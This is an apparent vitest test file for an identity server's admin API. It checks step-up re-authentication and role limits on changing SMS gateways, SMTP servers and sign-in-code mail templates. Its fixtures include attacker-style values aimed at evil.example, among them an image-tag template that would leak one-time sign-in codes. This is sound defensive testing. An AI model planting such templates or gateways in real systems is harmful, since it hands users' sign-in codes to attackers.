import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hubRoles } from '../../src/domain/persons/roles/hub-roles.ts';
import { addPerson } from '../authentication/support/people.ts';
import { startOwnServer } from '../support/own-server.ts';
import type { OwnServer } from '../support/own-server.ts';
import { query } from '../support/query.ts';
import { basic } from '../support/website.ts';
import { addOperator } from './support/operators.ts';
import type { TestOperator } from './support/operators.ts';

let server: OwnServer;
let ada: TestOperator;
/** With every role but the one that may do all. */
let connie: TestOperator;
let person: string;
/** An API client that may configure and not administer. */
const configurer = { id: `configurer-${randomUUID()}`, secret: randomBytes(24).toString('base64url') };
beforeAll(async () => {
  server = await startOwnServer();
  const { deps, endpoints } = server;
  ada = await addOperator(deps, ['Administrator'], endpoints);
  const others = hubRoles.filter((role) => role !== 'Administrator');
  connie = await addOperator(deps, others, endpoints);
  ({ id: person } = await addPerson(endpoints));
  const { id: client_id, secret: client_secret } = configurer;
  const client = { name: 'Configurer', client_id, client_secret, scopes: ['onegini_api_config'] };
  expect((await configure('POST', '/api-clients', basic(endpoints.clients.administration), client)).status).toBe(201);
});
afterAll(() => server.stop());

/** As if the operator had signed in that many seconds ago. */
const signedInBefore = (seconds: number) =>
  query(
    server.endpoints.postgres_url,
    `update oauth_artifact set payload = jsonb_set(payload::jsonb, '{extra,auth_time}', to_jsonb(floor(extract(epoch from now())) - $2::int))
      where model = 'AccessToken' and account_id = $1`,
    [ada.id, seconds],
  );

const configure = async (method: string, path: string, authorization: string, body?: object) => {
  const response = await fetch(`${server.endpoints.api}/oauth/api/v1/configuration${path}`, {
    method,
    headers: { authorization, ...(body && { 'content-type': 'application/json' }) },
    ...(body && { body: JSON.stringify(body) }),
  });
  const text = await response.text();
  return { status: response.status, headers: response.headers, body: text === '' ? null : JSON.parse(text) };
};
const bearer = ({ token }: TestOperator) => `Bearer ${token}`;

const reason = { reason: 'Because' };
const unknown = randomUUID();
const gateway = { type: 'http', url: 'https://evil.example/sms' };
const template = { template: '<img src="https://evil.example/{{ code }}">' };
/** Where messages go, and what they look like. */
const channels: [method: string, path: string, body?: object][] = [
  ['PUT', '/sms-gateway', gateway],
  ['PATCH', '/sms-gateway', { whatsapp_sender: '+15550001111' }],
  ['DELETE', '/sms-gateway'],
  ['PUT', '/smtp-server', { host: 'evil.example' }],
  ['PATCH', '/smtp-server', { host: 'evil.example' }],
  ['DELETE', '/smtp-server'],
  ['PUT', '/message-templates/mail.sign_in_code.html/en', template],
  ['DELETE', '/message-templates/mail.sign_in_code.html/en'],
];

describe('a sign-in of more than ten minutes ago', () => {
  const admin: [method: string, path: string, body?: object][] = [
    ['POST', '/role-assignments', { role_id: 'UserObserver', subject: { type: 'user', id: 'x' } }],
    ['DELETE', `/role-assignments/${unknown}`],
    ['PATCH', '/users/x', { display_name: 'Eve' }],
    ['DELETE', '/users/x'],
    ['POST', '/users/x/enable', reason],
    ['POST', '/users/x/unlock', reason],
    ['POST', '/users/x/expire-password', reason],
    ['POST', `/users/x/methods/${unknown}/reset`, reason],
    ['DELETE', '/users/x/push-freeze'],
    ['DELETE', '/users/x/devices'],
    ['DELETE', '/users/x/mobile-authentication'],
    ['DELETE', '/users/x/push'],
    ['DELETE', '/devices/x?users=0'],
    ['POST', '/clients', {}],
    ['PATCH', '/clients/x', {}],
    ['DELETE', '/clients/x'],
    ['POST', '/clients/x/secrets'],
    ['DELETE', `/clients/x/secrets/${unknown}`],
    ['POST', '/signing-keys/rotate', {}],
    ['PUT', '/configuration', { clients: [] }],
    ['POST', '/protected-resources', {}],
    ['PATCH', `/protected-resources/${unknown}`, {}],
    ['DELETE', `/protected-resources/${unknown}`],
    ['POST', '/identity-providers', {}],
    ['PATCH', '/identity-providers/x', {}],
    ['DELETE', '/identity-providers/x'],
    ['POST', '/authentication-policies', {}],
    ['PATCH', `/authentication-policies/${unknown}`, {}],
    ['DELETE', `/authentication-policies/${unknown}`],
  ];
  beforeAll(() => signedInBefore(601));
  afterAll(() => signedInBefore(0));

  it.each(admin)(
    'does not do for %s %s, and the refusal names what a sign-in has to reach',
    async (method, path, body) => {
      const refused = await ada.call(method, path, { body });
      expect(refused.body).toMatchObject({
        status: 401,
        code: 'insufficient_user_authentication',
        acr_values: 'urn:countersign:acr:1',
        max_age: 600,
      });
      expect(refused.headers.get('www-authenticate')).toContain(
        'Bearer realm="countersign-admin", error="insufficient_user_authentication", acr_values="urn:countersign:acr:1", max_age="600"',
      );
    },
  );

  it.each([
    ...channels,
    ['POST', '/api-clients', {}],
    ['PATCH', '/api-clients/x', {}],
    ['DELETE', '/api-clients/x'],
  ] as typeof channels)('does not do for %s %s of the configuration', async (method, path, body) => {
    const refused = await configure(method, path, bearer(ada), body);
    expect([refused.status, refused.body]).toMatchObject([401, { max_age: 600 }]);
    expect(refused.headers.get('www-authenticate')).toMatch(/insufficient_user_authentication.*max_age="600"/);
  });

  it('does for reading, and to keep a person out', async () => {
    expect((await ada.call('GET', '/role-assignments')).status).toBe(200);
    expect((await configure('GET', '/smtp-server', bearer(ada))).status).toBe(200);
    for (const way of ['sign-out', 'disable'])
      expect((await ada.call('POST', `/users/${person}/${way}`, { body: reason })).status).toBe(200);
  });
});

describe('where messages go', () => {
  it.each(channels)('is changed by no operator but an Administrator: %s %s', async (method, path, body) => {
    const refused = await configure(method, path, bearer(connie), body);
    expect([refused.status, refused.body]).toMatchObject([403, { access: 'message-channels.manage' }]);
  });

  it.each(channels)('is changed by no API client that configures the rest: %s %s', async (method, path, body) => {
    const refused = await configure(method, path, basic(configurer), body);
    expect([refused.status, refused.body.code]).toEqual([403, 'forbidden']);
  });

  it('is changed by an Administrator, and by an API client that administers', async () => {
    const path = '/message-templates/mail.sign_in_code.subject/en';
    const subject = { template: 'Your code: {{ code }}' };
    expect((await configure('PUT', path, bearer(ada), subject)).status).toBe(204);
    expect((await configure('DELETE', path, basic(server.endpoints.clients.administration))).status).toBe(204);
    expect((await configure('DELETE', '/smtp-server', bearer(ada))).status).toBe(404);
  });
});
